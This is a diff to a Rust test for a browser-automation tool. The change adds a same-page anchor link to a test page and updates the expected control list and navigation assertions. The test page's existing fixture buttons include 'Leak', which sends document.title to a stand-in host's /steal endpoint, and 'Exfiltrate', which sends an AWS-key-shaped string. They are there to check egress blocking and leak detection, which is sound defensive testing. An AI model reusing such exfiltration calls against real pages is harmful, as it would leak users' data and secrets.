@@ -220,6 +220,7 @@ fn play_app(other_port: u16, ws_port: u16, collected: Arc<AtomicUsize>) -> Route
 <button onclick="fetch('/missing')">Missing</button>
 <button onclick="fetch('http://other.test:{other_port}/steal?k=' + document.title)">Leak</button>
 <button onclick="fetch('/collect?k=' + ['AKIA', '2E7XQ4WJ9KD3LM6P'].join(''))">Exfiltrate</button>
+<a href='#top'>Top</a>
 <a href="/next">Next page</a>
 <button style="display:none">Hidden</button>
 <img src="http://other.test:{other_port}/pixel.png" alt="">
@@ -266,7 +267,7 @@ async fn play_test_clicks_each_control_and_reports_what_each_throws() {
     let (width, _) = png_size(&fs::read(w.ws.join("qa/play.png")).unwrap());
     assert_eq!(width, 1280);
 
-    // Seven visible controls, in the page's order; the hidden one is not among them.
+    // Eight visible controls, in the page's order; the hidden one is not among them.
     let controls = out["controls"].as_array().unwrap();
     let labels: Vec<&str> = controls
         .iter()
@@ -281,6 +282,7 @@ async fn play_test_clicks_each_control_and_reports_what_each_throws() {
             "Missing",
             "Leak",
             "Exfiltrate",
+            "Top",
             "Next page"
         ]
     );
@@ -328,14 +330,17 @@ async fn play_test_clicks_each_control_and_reports_what_each_throws() {
             && m.contains("dlp:aws-access-key")),
         "{exfiltrate:?}"
     );
+    // A place on the same page is not another page.
     assert_eq!(errors(6), vec![]);
+    assert_eq!(controls[6].get("navigated_to"), None, "{}", controls[6]);
+    assert_eq!(errors(7), vec![]);
     assert!(
-        controls[6]["navigated_to"]
+        controls[7]["navigated_to"]
             .as_str()
             .unwrap()
             .ends_with("/next"),
         "{}",
-        controls[6]
+        controls[7]
     );
 
     // On load: the image from other.test was refused by the egress gate, and reported.
